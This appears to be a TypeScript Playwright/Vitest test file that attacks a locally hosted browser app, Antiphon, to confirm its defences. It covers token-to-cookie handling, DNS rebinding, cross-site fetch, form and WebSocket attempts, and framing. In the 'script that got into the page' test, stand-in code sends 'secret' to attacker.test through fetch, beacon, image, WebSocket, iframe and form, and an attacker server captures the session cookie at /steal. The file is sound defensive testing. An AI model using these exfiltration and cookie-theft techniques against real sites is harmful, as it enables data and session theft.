// Attacks on the browser-hosted app from where they come: other pages in the user's own browser, and the page itself.
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser, BrowserContext, Page } from 'playwright'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { type Attacker, startAttacker } from '../support/attacker.ts'
import { launchChromium } from '../support/chromium.ts'
import { type ServerProcess, startServer } from '../support/launch-in-browser.ts'
import { rawRequest } from '../support/raw-http.ts'

let folder: string
let server: ServerProcess
let origin: string
let attacker: Attacker
let browser: Browser
let context: BrowserContext
let page: Page

/** The page that came with the token; it stays open. */
let firstPage: Page

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'antiphon-security-'))
  attacker = await startAttacker()
  browser = await launchChromium('MAP evil.test 127.0.0.1, MAP attacker.test 127.0.0.1')
  server = await startServer(folder)
  origin = new URL(server.url).origin
  context = await browser.newContext()
  firstPage = await context.newPage()
  await firstPage.goto(server.url)
  await screen(firstPage).waitFor()
})
afterAll(async () => {
  await browser.close()
  await server.end('SIGTERM')
  await attacker.close()
  rmSync(folder, { recursive: true, force: true })
})

beforeEach(async () => {
  page = await context.newPage()
  await page.goto(origin)
  await screen(page).waitFor()
})
afterEach(async () => {
  for (const tab of context.pages()) if (tab !== firstPage) await tab.close()
  attacker.hits.length = 0
})

/** Collects the status of every answer of ours to a page, also of those that the browser keeps from it. */
async function watchStatuses(tab: Page): Promise<number[]> {
  const statuses: number[] = []
  const ours = new Set<string>()
  const devTools = await context.newCDPSession(tab)
  devTools.on('Network.requestWillBeSent', ({ requestId, request }) => {
    if (request.url.startsWith(origin)) ours.add(requestId)
  })
  devTools.on('Network.responseReceivedExtraInfo', ({ requestId, statusCode }) => {
    if (ours.has(requestId)) statuses.push(statusCode)
  })
  await devTools.send('Network.enable')
  return statuses
}

const screen = (of: Page) => of.getByRole('textbox', { name: 'System prompt' })
const explanation = (of: Page) => of.getByText('Open the address that Antiphon printed in its terminal')

describe('the one-time token (S40)', () => {
  it('is out of the address and of the history before anybody can look', async () => {
    const devTools = await context.newCDPSession(firstPage)
    const { entries } = await devTools.send('Page.getNavigationHistory')
    expect(firstPage.url()).toBe(`${origin}/`)
    expect(entries.map(({ url }) => url)).not.toContainEqual(expect.stringContaining('token'))
  })

  it('becomes a cookie that no script can read', async () => {
    const [cookie, ...others] = await context.cookies()
    expect(others).toEqual([])
    expect(cookie).toMatchObject({
      name: `antiphon-${new URL(origin).port}`,
      httpOnly: true,
      sameSite: 'Strict',
      path: '/',
    })
    expect(await page.evaluate(() => document.cookie)).toBe('')
  })

  it('works once; the browser that used it goes on, in new tabs too', async () => {
    await page.reload()
    await screen(page).waitFor()
    for (const address of [`${origin}/`, server.url]) {
      const tab = await context.newPage()
      await tab.goto(address)
      await screen(tab).waitFor()
    }
    const stranger = await (await browser.newContext()).newPage()
    await stranger.goto(server.url)
    await explanation(stranger).waitFor()
    await stranger.context().close()
  })

  it('explains itself to a page without one', async () => {
    const stranger = await (await browser.newContext()).newPage()
    await stranger.goto(`${origin}/`)
    await explanation(stranger).waitFor()
    await stranger.goto(`${origin}/#token=guess`)
    await stranger.reload()
    await explanation(stranger).waitFor()
    await stranger.context().close()
  })
})

it.each(['evil.test', 'localhost'])('a page at the name %s gets nothing (S36: DNS rebinding)', async (name) => {
  const address = `http://${name}:${new URL(origin).port}/`
  const answered = page.waitForResponse(address)
  // A refusal without a body is no page to Chromium, so the navigation fails.
  await expect(page.goto(address)).rejects.toThrow('ERR_HTTP_RESPONSE_CODE_FAILURE')
  expect((await answered).status()).toBe(421)
})

describe.each([
  ['another site', () => `http://attacker.test:${attacker.port}/`],
  ['another server on 127.0.0.1, which browsers call the same site', () => `http://127.0.0.1:${attacker.port}/`],
])('a page of %s', (_what, address) => {
  let statuses: number[]
  beforeEach(async () => {
    const tab = await context.newPage()
    await tab.goto(address())
    statuses = await watchStatuses(tab)
    page = tab
  })

  it('reads and sends nothing with fetch, beacon or form (S37, S38)', async () => {
    const outcomes = await page.evaluate(async (target) => {
      const attempts: [string, RequestInit][] = [
        ['/', {}],
        ['/', { mode: 'no-cors' }],
        ['/session', { credentials: 'include', headers: { 'x-antiphon': '1' } }],
        [
          '/session',
          {
            method: 'POST',
            mode: 'no-cors',
            credentials: 'include',
            headers: { 'content-type': 'text/plain' },
            body: '{"token":"x"}',
          },
        ],
        [
          '/session',
          {
            method: 'POST',
            credentials: 'include',
            headers: { 'content-type': 'application/json', 'x-antiphon': '1' },
            body: '{}',
          },
        ],
      ]
      const fetched = attempts.map(async ([path, init]) => {
        try {
          const response = await fetch(target + path, init)
          return `${response.type} ${response.status} ${await response.text()}`.trim()
        } catch {
          return 'refused'
        }
      })
      navigator.sendBeacon(`${target}/session`, '{"token":"x"}')
      return await Promise.all(fetched)
    }, origin)
    // An opaque answer would have status 0 and no text; even that is withheld, by Cross-Origin-Resource-Policy.
    expect(outcomes).toEqual(['refused', 'refused', 'refused', 'refused', 'refused'])
    await expect.poll(() => [...new Set(statuses)]).toEqual([403])
  })

  it('opens no socket (S39)', async () => {
    const events = await page.evaluate(
      (target) =>
        new Promise<string[]>((resolve) => {
          const seen: string[] = []
          const socket = new WebSocket(`${target.replace('http', 'ws')}/wire`, ['antiphon', 'secret.guess'])
          for (const name of ['open', 'message', 'error']) socket.addEventListener(name, () => seen.push(name))
          socket.addEventListener('close', () => resolve(seen))
        }),
      origin,
    )
    expect(events).toEqual(['error'])
  })

  it('includes no script, image or style of ours (S38)', async () => {
    const outcomes = await page.evaluate((target) => {
      const load = (element: HTMLElement, attribute: string, path: string) =>
        new Promise<string>((resolve) => {
          element.addEventListener('load', () => resolve('loaded'))
          element.addEventListener('error', () => resolve('refused'))
          element.setAttribute(attribute, target + path)
          document.body.append(element)
        })
      const style = document.createElement('link')
      style.rel = 'stylesheet'
      return Promise.all([
        load(document.createElement('script'), 'src', '/session'),
        load(document.createElement('img'), 'src', '/'),
        load(style, 'href', '/'),
      ])
    }, origin)
    expect(outcomes).toEqual(['refused', 'refused', 'refused'])
    await expect.poll(() => [...new Set(statuses)]).toEqual([403])
  })

  it('puts us neither into a frame nor into a window of its own (S41)', async () => {
    const popup = page.waitForEvent('popup')
    await page.evaluate((target) => {
      const frame = document.createElement('iframe')
      frame.src = `${target}/`
      document.body.append(frame)
      open(`${target}/`)
    }, origin)
    const opened = await popup
    await opened.waitForLoadState()
    expect(await opened.locator('body').innerText()).not.toContain('System prompt')
    await expect.poll(() => page.frames().length).toBe(2)
    for (const frame of page.frames()) expect(await frame.locator('#root').count()).toBe(0)
    await expect.poll(() => [...new Set(statuses)]).toEqual([403])
  })

  it('navigates to us with a form without any effect (S38)', async () => {
    const navigated = page.waitForResponse((response) => response.url() === `${origin}/session`)
    await page.evaluate((target) => {
      const form = document.createElement('form')
      form.method = 'post'
      form.enctype = 'text/plain'
      form.action = `${target}/session`
      document.body.append(form)
      form.submit()
    }, origin)
    expect((await navigated).status()).toBe(403)
  })
})

it('a server on another port is sent our cookie, and can do nothing with it', async () => {
  const port = Number(new URL(origin).port)
  await page.goto(`http://127.0.0.1:${attacker.port}/steal`)
  const [hit] = attacker.hits
  expect(hit?.cookie).toMatch(new RegExp(`^antiphon-${port}=`)) // cookies ignore ports: the reason for the secret beside it
  const asPage = [`Host: 127.0.0.1:${port}`, `Origin: ${origin}`, `Cookie: ${hit?.cookie}`]
  const session = await rawRequest(port, ['GET /session HTTP/1.1', ...asPage, 'X-Antiphon: 1'])
  expect(session.status).toBe(401)
  const secrets = await page.evaluate(() => localStorage.getItem('antiphon.secret'))
  expect(secrets).toBeNull() // storage does not ignore them
})

describe('a script that got into the page', () => {
  it('reaches no other server by any request', async () => {
    await page.evaluate(async (target) => {
      const quiet = () => {}
      await fetch(`${target}/fetch?secret`, { mode: 'no-cors' }).catch(quiet)
      await fetch(`${target}/post`, { method: 'POST', mode: 'no-cors', body: 'secret' }).catch(quiet)
      navigator.sendBeacon(`${target}/beacon`, 'secret')
      new Image().src = `${target}/image?secret`
      for (const open of [
        () => new WebSocket(`${target.replace('http', 'ws')}/socket?secret`),
        () => new EventSource(`${target}/events?secret`),
      ]) {
        try {
          open()
        } catch {
          // Refused at once.
        }
      }
      const frame = document.createElement('iframe')
      frame.src = `${target}/frame?secret`
      const prefetch = document.createElement('link')
      prefetch.rel = 'prefetch'
      prefetch.href = `${target}/prefetch?secret`
      const style = document.createElement('link')
      style.rel = 'stylesheet'
      style.href = `${target}/style?secret`
      const form = document.createElement('form')
      form.action = `${target}/form`
      document.body.append(frame, prefetch, style, form)
      form.submit()
    }, `http://attacker.test:${attacker.port}`)
    // A request that is allowed ends after all of the above were decided on.
    expect(await page.evaluate(async () => (await fetch('/')).status)).toBe(200)
    expect(attacker.hits).toEqual([])
  })

  it('makes no markup from text', async () => {
    const outcomes = await page.evaluate(() => {
      const attempt = (sink: () => unknown) => {
        try {
          sink()
          return 'done'
        } catch (error) {
          return (error as Error).name
        }
      }
      const element = document.createElement('div')
      return [
        attempt(() => {
          element.innerHTML = '<b>bold</b>'
        }),
        attempt(() => document.createElement('iframe').setAttribute('srcdoc', '<b>bold</b>')),
        attempt(() => {
          document.createElement('script').src = '/assets/index.js'
        }),
        attempt(() =>
          (
            window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }
          ).trustedTypes.createPolicy('mine', {}),
        ),
      ]
    })
    expect(outcomes).toEqual(['TypeError', 'TypeError', 'TypeError', 'TypeError'])
  })
})
